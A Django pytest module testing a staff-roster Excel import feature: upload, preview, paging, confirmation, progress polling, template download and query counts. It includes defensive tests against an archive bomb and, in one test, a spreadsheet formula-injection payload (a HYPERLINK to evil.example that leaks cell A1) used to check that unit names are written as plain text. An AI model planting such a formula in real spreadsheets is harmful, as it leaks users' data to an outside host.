"""The pages: upload, preview with filter and paging, progress, confirm, discard, template; query counts."""

import io
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from chuangxian.orgs.models import Member, MemberStatus
from chuangxian.orgs.tests.factories import make_unit
from chuangxian.roster.models import ImportMode, ImportStatus, RosterImport
from chuangxian.roster.tests.factories import (
    id_number,
    person,
    rewrite_members,
    upload,
    with_dimension,
    xlsx_bytes,
)


@pytest.fixture
def office_client(client, personas):
    client.force_login(personas.office)
    return client


def post_file(client, content: bytes, name: str = "名册.xlsx", mode: str = "partial", **extra):
    data = {"file": SimpleUploadedFile(name, content), "mode": mode, "departure_status": "left", **extra}
    return client.post(reverse("roster:start"), data)


def rows(count: int, start: int = 0):
    return [
        person(f"3{i:06d}", "张伟", id=id_number(seq=i % 1000, birth=f"19{50 + i // 1000}0101"))
        for i in range(start, start + count)
    ]


def test_start_page_offers_the_template_and_the_form(office_client):
    response = office_client.get(reverse("roster:start"))
    assert response.status_code == 200
    html = response.content.decode()
    assert reverse("roster:template") in html
    assert "部分更新" in html
    assert "全量导入" in html
    assert 'enctype="multipart/form-data"' in html


def test_upload_redirects_to_the_preview_which_lists_each_row(office_client, tree):
    content = xlsx_bytes([person("2010001", "张伟"), person("2010002", "李娜", unit="文学院")])
    response = post_file(office_client, content)
    roster_import = RosterImport.objects.get()
    assert response.status_code == 302
    assert response.url == reverse("roster:detail", args=[roster_import.pk])
    html = office_client.get(response.url).content.decode()
    assert "第 2 行" in html
    assert "第 3 行" in html
    assert "新增" in html
    assert "错误" in html
    assert "是不是「文学与传播学院」" in html
    assert "所在单位（C列）" in html
    assert "重新上传" in html
    assert 'id="confirm-import"' not in html  # no confirm button while there are errors


def test_bad_file_is_refused_on_the_form(office_client):
    response = post_file(office_client, b"%PDF-1.4 \x00\x00", name="名册.xlsx")
    assert response.status_code == 200
    assert "无法识别这个文件" in response.content.decode()
    assert not RosterImport.objects.exists()


def test_a_text_file_renamed_xlsx_is_refused_saying_it_is_not_excel(office_client):
    response = post_file(office_client, "这不是名册，只是一段说明。\n第二行\n".encode(), name="说明.xlsx")
    html = response.content.decode()
    assert response.status_code == 200
    assert "「说明.xlsx」的扩展名是 .xlsx，但内容不是 Excel 表格，而是纯文本" in html
    assert not RosterImport.objects.exists()


def test_a_text_export_named_xls_with_a_header_is_still_read(office_client, tree):
    text = "工号\t姓名\t所在单位\n2010001\t张伟\t文学与传播学院\n"
    response = post_file(office_client, text.encode("gb18030"), name="人事导出.xls")
    assert response.status_code == 302
    assert RosterImport.objects.get().new_count == 1


def test_missing_columns_are_refused_on_the_form(office_client):
    response = post_file(office_client, xlsx_bytes([], header=["工号", "姓名"]))
    assert "缺少必填列：所在单位" in response.content.decode()


def test_an_archive_bomb_is_refused_on_the_form_and_nothing_is_stored(office_client, settings):
    settings.ROSTER_IMPORT_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
    filler = b"<sst>" + b" " * 3 * 1024 * 1024
    content = rewrite_members(
        xlsx_bytes([person("2010001", "张伟")]), {"xl/sharedStrings.xml": lambda _b: filler}
    )
    response = post_file(office_client, content)
    assert response.status_code == 200
    assert "这个文件解压后有 3 MB，超过上限 1 MB" in response.content.decode()
    assert not RosterImport.objects.exists()


def test_an_upload_whose_dimension_claims_two_rows_previews_all_eight(office_client, tree):
    names = ["张伟", "李娜", "王芳", "刘洋", "陈静", "杨帆", "黄磊", "赵敏"]
    content = with_dimension(xlsx_bytes([person(f"201000{i}", n) for i, n in enumerate(names)]), "A1:F3")
    response = post_file(office_client, content)
    assert response.status_code == 302
    assert RosterImport.objects.get().new_count == 8
    assert "第 9 行" in office_client.get(response.url).content.decode()


def test_filter_by_outcome_and_paging(office_client, tree, personas):
    roster_import = upload(
        tree, personas.office, xlsx_bytes([*rows(60), person("2010002", "李娜", unit="文学院")])
    )
    url = reverse("roster:detail", args=[roster_import.pk])
    errors = office_client.get(url, {"outcome": "error"}).content.decode()
    assert "李娜" in errors
    assert "3000000" not in errors
    first = office_client.get(url).content.decode()
    assert "第 1 / 2 页" in first
    assert "3000049" in first
    assert "3000050" not in first
    second = office_client.get(url, {"page": 2}).content.decode()
    assert "3000050" in second


def test_confirm_through_the_page(office_client, tree):
    post_file(office_client, xlsx_bytes([person("2010001", "张伟")]))
    roster_import = RosterImport.objects.get()
    response = office_client.post(reverse("roster:confirm", args=[roster_import.pk]), follow=True)
    assert "名册已导入：新增 1 人" in response.content.decode()
    assert Member.objects.filter(tenant=tree.tenant, staff_no="2010001").exists()


def test_confirm_with_errors_is_refused_through_the_page(office_client, tree):
    post_file(office_client, xlsx_bytes([person("2010001", "张伟", unit="文学院")]))
    roster_import = RosterImport.objects.get()
    response = office_client.post(reverse("roster:confirm", args=[roster_import.pk]), follow=True)
    assert "1 行错误" in response.content.decode()
    assert not Member.objects.filter(staff_no="2010001").exists()


def test_full_import_needs_the_departures_ticked(office_client, tree, personas):
    post_file(office_client, xlsx_bytes([person("2010001", "张伟")]), mode=ImportMode.FULL)
    roster_import = RosterImport.objects.get()
    html = office_client.get(
        reverse("roster:detail", args=[roster_import.pk]), {"outcome": "departure"}
    ).content.decode()
    assert personas.member_row.name in html
    assert "名册外" in html
    assert "您本人不在这份名册中" in html  # the office's own row is among the departures
    url = reverse("roster:confirm", args=[roster_import.pk])
    response = office_client.post(url, follow=True)
    assert "请先勾选" in response.content.decode()
    assert Member.objects.get(pk=personas.member_row.pk).status == MemberStatus.ACTIVE
    office_client.post(url, {"acknowledge": "on"})
    assert Member.objects.get(pk=personas.member_row.pk).status == MemberStatus.LEFT
    after = office_client.get(reverse("roster:detail", args=[roster_import.pk]), {"outcome": "departure"})
    assert "已标记为离职" in after.content.decode()


def test_discard_through_the_page(office_client):
    post_file(office_client, xlsx_bytes([person("2010001", "张伟")]))
    roster_import = RosterImport.objects.get()
    response = office_client.post(reverse("roster:discard", args=[roster_import.pk]), follow=True)
    assert "已放弃这次导入" in response.content.decode()
    roster_import.refresh_from_db()
    assert roster_import.status == ImportStatus.DISCARDED


def test_background_import_shows_a_polling_progress_bar(office_client, settings, tree, personas):
    settings.ROSTER_IMPORT_BACKGROUND_ROWS = 1
    roster_import = upload(tree, personas.office, xlsx_bytes(rows(3)))  # on_commit never fires in this test
    assert roster_import.status == ImportStatus.QUEUED
    html = office_client.get(reverse("roster:detail", args=[roster_import.pk])).content.decode()
    progress_url = reverse("roster:progress", args=[roster_import.pk])
    assert f'hx-get="{progress_url}"' in html
    assert 'hx-trigger="every 1s"' in html
    assert "<script>" not in html.split("</footer>")[0]  # CSP: no inline script
    RosterImport.objects.filter(pk=roster_import.pk).update(
        status=ImportStatus.PLANNING, processed_rows=2, total_rows=4
    )
    fragment = office_client.get(progress_url, headers={"HX-Request": "true"})
    assert 'style="width: 50%; min-width: 2.5rem"' in fragment.content.decode()
    assert 'id="import-status" hx-swap-oob="true"' in fragment.content.decode()  # the badge follows
    RosterImport.objects.filter(pk=roster_import.pk).update(status=ImportStatus.READY)
    done = office_client.get(progress_url, headers={"HX-Request": "true"})
    assert done.headers["HX-Refresh"] == "true"


def test_template_download(office_client, tree):
    response = office_client.get(reverse("roster:template"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in response["Content-Disposition"]
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook["名册"]
    headers = [c.value for c in sheet[1]]
    assert headers == [
        "工号*",
        "姓名*",
        "所在单位*",
        "工会小组",
        "性别",
        "出生日期",
        "岗位类别",
        "政治面貌",
        "手机号码",
        "身份证号",
        "入职日期",
        "状态",
    ]
    assert sheet.column_dimensions["A"].number_format == "@"
    assert sheet.column_dimensions["J"].number_format == "@"
    lists = {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation}
    assert any("男,女" in f for f in lists.values())
    assert any("单位列表" in f for f in lists.values())
    units = [c.value for c in workbook["单位列表"]["A"]]
    assert "文学与传播学院" in units
    assert "中文系工会小组" not in units
    assert "填写说明" in workbook.sheetnames


def test_template_writes_a_formula_like_unit_name_as_plain_text(office_client, tree):
    """Unit names reach the hidden list sheet: one named like a formula must not run in Excel."""
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    make_unit(tree.tenant, hostile, parent=tree.root)
    response = office_client.get(reverse("roster:template"))
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    cells = [c for (c,) in openpyxl.load_workbook(io.BytesIO(response.content))["单位列表"].iter_rows()]
    assert [(c.value, c.data_type) for c in cells if c.value == hostile] == [(hostile, "s")]


def test_the_template_itself_imports_cleanly(office_client, tree, personas):
    response = office_client.get(reverse("roster:template"))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    sheet = workbook["名册"]
    sheet.append(
        [
            "2010001",
            "张伟",
            "文学与传播学院",
            "中文系工会小组",
            "男",
            "1980-01-01",
            "教师",
            "中共党员",
            "13805951234",
            id_number(seq=1),
            "2005-09-01",
            "在职",
        ]
    )
    buffer = io.BytesIO()
    workbook.save(buffer)
    roster_import = upload(tree, personas.office, buffer.getvalue())
    assert roster_import.new_count == 1
    assert roster_import.error_count == 0
    assert not roster_import.background


@pytest.mark.parametrize("count", [10, 2000])
def test_preview_page_queries_do_not_grow_with_rows(
    office_client, tree, personas, count, django_assert_max_num_queries
):
    roster_import = upload(tree, personas.office, xlsx_bytes(rows(count)), mode=ImportMode.FULL)
    url = reverse("roster:detail", args=[roster_import.pk])
    with django_assert_max_num_queries(9):
        response = office_client.get(url)
    assert response.status_code == 200
    with django_assert_max_num_queries(9):
        office_client.get(url, {"outcome": "new", "page": 2})


@pytest.mark.parametrize("count", [10, 2000])
def test_import_list_queries_do_not_grow_with_imports(
    office_client, tree, personas, count, django_assert_max_num_queries
):
    first = upload(tree, personas.office, xlsx_bytes([person("2010001", "张伟")]))
    RosterImport.objects.bulk_create(
        RosterImport(
            tenant=tree.tenant,
            uploaded_by=personas.office,
            file=first.file.name,
            original_name=f"名册{i}.xlsx",
            file_format=first.file_format,
            mode=first.mode,
            status=first.status,
            new_count=1,
        )
        for i in range(count - 1)
    )
    with django_assert_max_num_queries(8):
        response = office_client.get(reverse("roster:start"))
    assert response.status_code == 200
    assert f"名册{count - 2}.xlsx" in response.content.decode()  # newest first


def test_back_office_lists_imports_read_only(client, tree, personas):
    upload(tree, personas.office, xlsx_bytes([person("2010001", "张伟")]))
    client.force_login(personas.admin)
    response = client.get(reverse("admin:roster_rosterimport_changelist"))
    assert response.status_code == 200
    assert "名册.xlsx" in response.content.decode()
    assert client.get(reverse("admin:roster_rosterimport_add")).status_code == 403
